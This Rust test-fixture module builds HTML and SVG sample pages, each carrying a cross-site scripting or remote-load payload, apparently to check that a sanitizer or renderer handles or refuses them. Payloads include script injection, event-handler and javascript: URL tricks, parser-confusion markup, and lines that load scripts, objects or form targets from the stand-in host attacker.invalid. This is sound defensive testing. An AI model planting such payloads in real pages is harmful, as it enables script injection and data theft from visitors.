//! Pages and drawings that would run something in whoever shows them.

use super::Expected::{Refused, Taken};
use super::Shelf;

pub(super) fn fill(shelf: &mut Shelf) {
    for (what, markup) in [
        ("a script", "<script>alert(1)</script>"),
        (
            "a script elsewhere",
            "<script src=\"http://attacker.invalid/x.js\"></script>",
        ),
        ("a script in an attribute", "<img src=x onerror=alert(1)>"),
        (
            "a script in an address",
            "<a href=\"javascript:alert(1)\">a</a>",
        ),
        (
            "a script in a style",
            "<style>@import 'http://attacker.invalid/x.css';</style>",
        ),
        (
            "a page in the page",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        ),
        (
            "an object",
            "<object data=\"http://attacker.invalid/x.swf\"></object>",
        ),
        (
            "a jump elsewhere",
            "<meta http-equiv=refresh content=\"0;url=http://attacker.invalid/\">",
        ),
        (
            "a base elsewhere",
            "<base href=\"http://attacker.invalid/\">",
        ),
        (
            "a form elsewhere",
            "<form action=\"http://attacker.invalid/\"><input name=p></form>",
        ),
        (
            "a script in a drawing",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
        ),
        (
            "a script in a comment that is none",
            "<!--><script>alert(1)</script>-->",
        ),
        (
            "a script in a half tag",
            "<scr<script>ipt>alert(1)</script>",
        ),
        ("a script never closed", "<p>more</p><script>alert(1)"),
        (
            "a template",
            "<template><script>alert(1)</script></template>",
        ),
    ] {
        let page =
            format!("<!DOCTYPE html><html><body><p>Popeth yn iawn.</p>{markup}</body></html>");
        shelf.put(Taken, "page.html", format!("{what} in HTML"), page);
    }
    for (what, markup) in [
        ("a script", "<script>alert(1)</script>"),
        ("a script at loading", "<g onload=\"alert(1)\"/>"),
        (
            "a page",
            "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"http://attacker.invalid/\"/></foreignObject>",
        ),
        (
            "an address",
            "<image href=\"http://attacker.invalid/x.png\"/>",
        ),
        (
            "a use of itself",
            "<g id=\"a\"><use href=\"#a\"/><use href=\"#a\"/></g>",
        ),
    ] {
        let drawing = format!("<svg xmlns=\"http://www.w3.org/2000/svg\">{markup}</svg>");
        shelf.put(
            Refused("unknown-format"),
            "drawing.svg",
            format!("{what} in SVG"),
            drawing,
        );
    }
}
